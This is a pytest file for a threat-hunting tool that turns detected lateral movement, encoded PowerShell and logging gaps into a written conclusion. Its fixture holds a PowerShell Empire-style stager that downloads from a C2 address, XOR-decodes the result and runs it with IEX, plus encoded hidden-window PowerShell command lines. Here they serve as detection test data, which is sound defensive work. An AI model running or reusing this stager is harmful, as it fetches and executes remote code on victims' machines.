"""The generated conclusion names what the findings hold, and nothing else."""

from __future__ import annotations

import base64

from huntbook.analytics import conclude, find_lateral_movement, powershell_findings, visibility
from huntbook.analytics.conclusion import join_names

from .conftest import logon, outbound, proc, security

SYS32 = "C:\\Windows\\System32\\"
WMI = SYS32 + "wbem\\WmiPrvSE.exe"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
STAGER = (
    "$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0)';"
    "$ser='http://10.10.10.5';$t='/admin/get.php';"
    "$K=[System.Text.Encoding]::ASCII.GetBytes('0]rX3Y4:()JchAKkR7Vg+[/Up92tmGQv');"
    "$R={$D|%{$_-bxor$S[0]}};$data=$wc.DownloadData($ser+$t);-join[char[]](& $R $data $K)|IEX"
)


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _seed_like_events():
    """wrk-btun runs the stager from a script, then moves to venus and wrk-klagerf via WMI."""
    events = [
        outbound("wrk-btun", 0.0, "10.0.2.15", "10.0.1.7"),
        security(
            4688,
            "wrk-btun",
            1.0,
            NewProcessName=PS,
            ParentProcessName=SYS32 + "wscript.exe",
            SubjectUserName="billy",
            CommandLine=f"powershell -w hidden -e {_enc(STAGER)}",
        ),
    ]
    for i, host in enumerate(["venus", "wrk-klagerf"]):
        t = 100.0 + 50 * i
        events += [
            logon(host, t, f"0x{i + 5}1", "service3", ip="10.0.2.15"),
            proc(
                host,
                t + 0.5,
                f"0x{i + 5}1",
                PS,
                WMI,
                f"powershell -noP -sta -w 1 -enc {_enc(STAGER)}",
            ),
        ]
    return events


def test_conclusion_in_the_seeds_register(build_store):
    store = build_store(_seed_like_events())
    needs = [
        "Authentication Logs",
        "Netflow",
        "Process Monitoring",
        "Process Command-Line Parameters",
    ]
    text = conclude(
        find_lateral_movement(store), powershell_findings(store), visibility(store, needs)
    )
    assert text.startswith("The hunt found lateral movement involving 3 hosts. ")
    assert "venus and wrk-klagerf were reached from wrk-btun via WMI as service3." in text
    assert (
        "The processes on venus and wrk-klagerf ran encoded PowerShell (PowerShell Empire stager, "
        in text
    )
    assert "C2 http://10.10.10.5/admin/get.php" in text
    foothold = (
        "wrk-btun also ran the same payload under a different launcher, most likely the initial"
    )
    assert foothold + " foothold." in text
    assert "no process command-line parameters on" not in text  # every host has them
    # no netflow source at all except one Sysmon 3 on wrk-btun: hosts without it are named
    assert (
        "Visibility gaps: no authentication logs on wrk-btun; no netflow on venus and wrk-klagerf"
        in text
    )


def test_same_result_from_the_report_json_shape(build_store):
    store = build_store(_seed_like_events())
    edges, ps, vis = (
        find_lateral_movement(store),
        powershell_findings(store),
        visibility(store, ["Netflow"]),
    )
    bundle = {
        "lateral_movement": [e.to_dict() for e in edges],
        "powershell": [p.to_dict() for p in ps],
        "visibility": vis.to_dict(),
    }
    assert conclude(bundle) == conclude(edges, ps, vis)


def test_no_findings():
    assert conclude([], [], {"needs": [], "gaps": []}) == "The hunt found no lateral movement."


def test_gap_sentence_names_missing_sources():
    vis = {
        "needs": [
            {
                "need": "Netflow",
                "known": True,
                "hosts": {"a": "absent"},
                "gaps": ["No Sysmon Event ID 3 logs"],
            }
        ]
    }
    assert conclude([], [], vis).endswith("Visibility gap: no Sysmon Event ID 3 logs.")


def test_payload_without_movement():
    finding = {"hosts": ["wrk-btun"], "family": None, "iocs": {}, "launchers_by_host": {}}
    assert "Encoded PowerShell ran on wrk-btun (unrecognised payload)." in conclude([], [finding])


def test_join_names():
    assert join_names(["a"]) == "a"
    assert join_names(["a", "b", "a"]) == "a and b"
    assert join_names(["a", "b", "c"]) == "a, b and c"
    assert join_names(list("abcdef")) == "a, b, c and 3 more"


def test_remote_access_without_payload_is_told_apart(build_store):
    events = [
        *_seed_like_events(),
        logon(
            "frothlydc",
            300.0,
            "0x99",
            "frothly.admin",
            ip="10.0.3.25",
            workstation="ADMIN-VPN",
            logon_type="10",
        ),
    ]
    store = build_store(events)
    text = conclude(find_lateral_movement(store), powershell_findings(store), None)
    assert text.startswith("The hunt found lateral movement involving 3 hosts. ")
    assert text.endswith(
        "Other remote access, with no encoded PowerShell seen: "
        "frothlydc was reached from ADMIN-VPN via RDP as frothly.admin."
    )


def test_an_unresolved_source_is_not_counted_as_a_host():
    edge = {
        "source": "unresolved source",
        "source_kind": "unresolved",
        "destination": "IE10Win7",
        "account": None,
        "method": "PsExec",
    }
    assert conclude([edge]) == (
        "The hunt found lateral movement involving 1 host. "
        "IE10Win7 was reached from an unresolved source via PsExec."
    )
